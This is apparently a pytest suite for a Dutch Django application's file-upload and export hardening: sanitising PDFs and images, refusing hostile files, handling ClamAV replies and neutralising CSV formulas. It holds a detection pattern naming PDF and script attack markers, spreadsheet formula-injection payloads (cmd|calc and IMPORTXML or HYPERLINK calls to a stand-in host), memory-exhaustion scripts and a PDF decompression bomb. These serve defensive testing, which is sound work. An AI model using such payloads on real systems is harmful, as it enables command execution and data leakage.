"""Hostile files: refused in plain Dutch, or made harmless; what was typed stays, and the site goes on (FP-01…03)."""

import csv
import io
import re
import socket
import subprocess
import threading
import time

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from dossiers.actions.invoerpersoneel import keep_links
from dossiers.edexml import Bestandsfout
from dossiers.importbestand import read_tabel
from dossiers.models import Bijlage
from tests.aanval import bestanden
from tests.factories_bijlage import beeld, pdf
from tests.factories_dossier import dossier_of
from tests.factories_signaal import act_of
from work import clamav, keuring
from work.bestanden import read_bestand

GEVAAR = re.compile(
    rb"GiftigeKern|JavaScript|/Launch|EmbeddedFile|/OpenAction|/AA\b|kwaad\.example|<script|<\?php"
)


def test_there_is_enough_to_be_afraid_of():
    assert len(bestanden.WEG) + len(bestanden.ONSCHADELIJK) + len(bestanden.LIJSTEN) >= 100
    assert len(bestanden.WEG) >= 50


@pytest.mark.parametrize("naam", bestanden.WEG)
def test_what_is_no_plain_document_or_picture_is_refused(naam):
    with pytest.raises(keuring.Afgekeurd) as fout:
        keuring.inspect(bestanden.WEG[naam], naam=naam)
    zin = fout.value.zin
    assert zin in keuring.ZINNEN.values() or "De naam van dit bestand" in zin
    assert zin not in (keuring.ZINNEN["zwaar"], keuring.ZINNEN["geen_scan"])  # it was judged, not given up on
    assert "Giftig" not in zin


@pytest.mark.parametrize("naam", bestanden.ONSCHADELIJK)
def test_what_hides_in_a_good_file_does_not_come_along(naam):
    gekeurd = keuring.inspect(bestanden.ONSCHADELIJK[naam], naam=naam)
    assert not GEVAAR.search(gekeurd.inhoud)
    if gekeurd.soort == "pdf":
        with pikepdf.open(io.BytesIO(gekeurd.inhoud)) as schoon:
            assert set(schoon.Root.keys()) == {"/Type", "/Pages"}
            assert not GEVAAR.search(b"".join(ding.unparse(resolved=True) for ding in schoon.objects))
            assert not any(
                GEVAAR.search(d.read_bytes()) for d in schoon.objects if isinstance(d, pikepdf.Stream)
            )
    else:
        with Image.open(io.BytesIO(gekeurd.inhoud)) as schoon:
            assert dict(schoon.getexif()) == {}
            assert getattr(schoon, "n_frames", 1) == 1
            assert not {"icc_profile", "Comment", "comment", "xmp", "exif"} & set(schoon.info)


@pytest.mark.parametrize("naam", bestanden.GOED)
def test_a_good_file_comes_in(naam):
    gekeurd = keuring.inspect(bestanden.GOED[naam], naam=naam)
    if gekeurd.soort == "pdf":
        with (
            pikepdf.open(io.BytesIO(bestanden.GOED[naam])) as oud,
            pikepdf.open(io.BytesIO(gekeurd.inhoud)) as nieuw,
        ):
            assert len(oud.pages) == len(nieuw.pages)
    else:
        with Image.open(io.BytesIO(gekeurd.inhoud)) as schoon:
            assert max(schoon.size) <= 4096


def test_a_photo_stands_upright_and_a_filled_in_form_keeps_its_words():
    gedraaid = Image.Exif()
    gedraaid[0x0112] = 6
    with Image.open(io.BytesIO(keuring.inspect(beeld(exif=gedraaid), naam="a.jpg").inhoud)) as schoon:
        assert schoon.size == (30, 40)
    formulier = keuring.inspect(pdf(bestanden.form_script), naam="a.pdf").inhoud
    with pikepdf.open(io.BytesIO(formulier)) as schoon:
        inhoud = b"".join(d.read_bytes() for d in schoon.objects if isinstance(d, pikepdf.Stream))
    assert b"Ingevuld" in inhoud


def test_what_eats_memory_or_time_ends_only_the_cleaner(monkeypatch, tmp_path):
    eter = tmp_path / "eter.py"
    for code in (
        "x = 'x' * 10**8\nwhile True: x += x",
        "while True: pass",
        "import os; os.kill(os.getpid(), 9)",
    ):
        eter.write_text(
            "import resource; resource.setrlimit(resource.RLIMIT_AS, (10**9, 10**9))\n" + code,
            encoding="utf-8",
        )
        monkeypatch.setattr(keuring, "SCHOONMAKER", eter)
        monkeypatch.setattr(keuring, "WACHT_SECONDEN", 2)
        begin = time.monotonic()
        with pytest.raises(keuring.Afgekeurd) as fout:
            keuring.inspect(beeld(), naam="a.jpg")
        assert fout.value.zin == keuring.ZINNEN["zwaar"]
        assert time.monotonic() - begin < 10


def test_a_bomb_inside_a_pdf_is_stopped():
    """Three hundred MB of nothing in the table of the file itself: it has to be unpacked to be read."""
    gat = pdf(
        lambda p: p.pages[0].obj.__setitem__("/Contents", p.make_stream(b" " * 300_000_000)),
        compress_streams=True,
    )
    assert len(gat) < 1_000_000
    try:
        gekeurd = keuring.inspect(gat, naam="bom.pdf")
    except keuring.Afgekeurd as fout:
        assert fout.zin in keuring.ZINNEN.values()
    else:
        assert len(gekeurd.inhoud) < keuring.MAX_SCHOON


@pytest.mark.django_db
def test_on_the_page_every_refusal_keeps_what_was_typed_and_keeps_no_file(cast, browse):
    client, adres = browse(cast.af), reverse("record_bijlage", args=[dossier_of(cast).pk])
    nieuw = client.get(adres).context["form"].initial["nieuw_id"]
    for naam in ("plaatje.svg", "zee.png", "slot.pdf", "brief.pdf.exe", "foto.pdf", "niets.pdf"):
        bestand = SimpleUploadedFile(naam, bestanden.WEG[naam])
        antwoord = client.post(adres, {"nieuw_id": nieuw, "titel": "Tekening", "bestand": bestand})
        tekst = antwoord.content.decode()
        assert antwoord.status_code == 200
        assert 'value="Tekening"' in tekst
        assert "<title>Fout:" in tekst
        assert naam not in tekst
    assert not Bijlage.objects.exists()
    goed = SimpleUploadedFile("../../GiftigeKern.pdf", pdf())
    assert client.post(adres, {"nieuw_id": nieuw, "titel": "Tekening", "bestand": goed}).status_code == 302
    assert "Giftig" not in client.get(adres.replace("nieuw/", "")).content.decode()


ALS_TEKST = {
    "macro",
    "omhoog",
    "elders",
    "formule",
    "lang",
    "utf7",
    "aanhaling",
    "rommel",
    "utf16",
    "tekst_xxe",
}


@pytest.mark.parametrize("naam", bestanden.LIJSTEN)
def test_a_hostile_list_is_refused_or_read_as_text(naam):
    try:
        tabel = read_tabel(bestanden.LIJSTEN[naam])
    except Bestandsfout as fout:
        assert fout.zin.endswith(".")
        assert "root:" not in fout.zin
    else:
        assert naam in ALS_TEKST
        cellen = [cel for _, rij in tabel.rijen for cel in rij]
        assert all(type(cel) is str for cel in cellen)
        assert not any("root:" in cel for cel in cellen)


# --- the virus scanner ----------------------------------------------------------------------------


@pytest.fixture
def scanner(settings):
    """A clamd that says what it is told to say; None hangs up."""
    dienst = socket.create_server(("127.0.0.1", 0))
    zegt, gehoord = [b"stream: OK\0"], []

    def serve():
        while True:
            try:
                lijn, _ = dienst.accept()
            except OSError:
                return
            with lijn, lijn.makefile("rwb") as pijp:
                assert pijp.read(10) == b"zINSTREAM\0"
                inhoud = b""
                while grootte := int.from_bytes(pijp.read(4), "big"):
                    inhoud += pijp.read(grootte)
                gehoord.append(inhoud)
                if zegt[0] is not None:
                    pijp.write(zegt[0])
                    pijp.flush()

    threading.Thread(target=serve, daemon=True).start()
    settings.CLAMAV = dienst.getsockname()
    yield zegt, gehoord
    dienst.close()


def test_the_scanner_hears_the_file_as_it_was_sent(scanner):
    _, gehoord = scanner
    groot = beeld(maat=(900, 900), quality=100) + b"x" * 200_000
    assert keuring.inspect(groot, naam="a.jpg").soort == "jpg"
    assert gehoord == [groot]


@pytest.mark.parametrize(
    ("antwoord", "zin"),
    [
        (b"stream: Eicar-Test-Signature FOUND\0", "virus"), (b"INSTREAM size limit exceeded. ERROR\0", "geen_scan"),
        (b"stream: OK", "geen_scan"), (b"", "geen_scan"), (None, "geen_scan"), (b"OK\0", "geen_scan"),
        (b"stream: OK\nstream: X FOUND\0", "virus"), (b"x" * 9000, "geen_scan"),
    ],
)  # fmt: skip
def test_without_the_word_clean_there_is_no_file(scanner, antwoord, zin):
    scanner[0][0] = antwoord
    with pytest.raises(keuring.Afgekeurd) as fout:
        keuring.inspect(beeld(), naam="a.jpg")
    assert fout.value.zin == keuring.ZINNEN[zin]


def test_a_scanner_that_is_away_means_no_file(settings, monkeypatch):
    with socket.create_server(("127.0.0.1", 0)) as dienst:
        plek = dienst.getsockname()
        settings.CLAMAV = plek
        monkeypatch.setattr(clamav, "WACHT_SECONDEN", 1)
        with pytest.raises(keuring.Afgekeurd):  # nobody answers
            keuring.inspect(beeld(), naam="a.jpg")
    with pytest.raises(keuring.Afgekeurd):  # nobody is there
        keuring.inspect(beeld(), naam="a.jpg")


def test_the_cleaner_knows_nothing_of_the_site(monkeypatch):
    """No environment, no database, no keys: what breaks out of a decoder finds an empty room."""
    gezien = {}
    echt = subprocess.run

    def run(*args, **kwargs):
        gezien.update(kwargs)
        return echt(*args, **kwargs)

    monkeypatch.setattr(subprocess, "run", run)
    keuring.inspect(beeld(), naam="a.jpg")
    assert gezien["env"] == {}


FORMULES = (
    "=1+1", '=HYPERLINK("http://kwaad.example")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
    "\t=1+1", "\r=1+1", '=IMPORTXML("http://kwaad.example","//a")', '=DDE("x";"y")', '"=1+1', ";=1+1", "a\n=1+1",
    "  =1+1",
)  # fmt: skip


@pytest.mark.django_db
def test_no_cell_of_a_list_we_give_out_is_a_formula(cast):
    with act_of(cast.beheer):
        bestand = keep_links([[formule, f"x{nummer}", formule] for nummer, formule in enumerate(FORMULES)])
        tekst = read_bestand(bestand).decode("utf-8-sig")
    kop, *rijen = csv.reader(io.StringIO(tekst, newline=""), delimiter=";")
    assert len(rijen) == len(FORMULES)
    assert [rij[1] for rij in rijen] == [
        f"x{nummer}" for nummer in range(len(FORMULES))
    ]  # nobody moved a column
    assert not any(
        cel.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for rij in [kop, *rijen] for cel in rij
    )
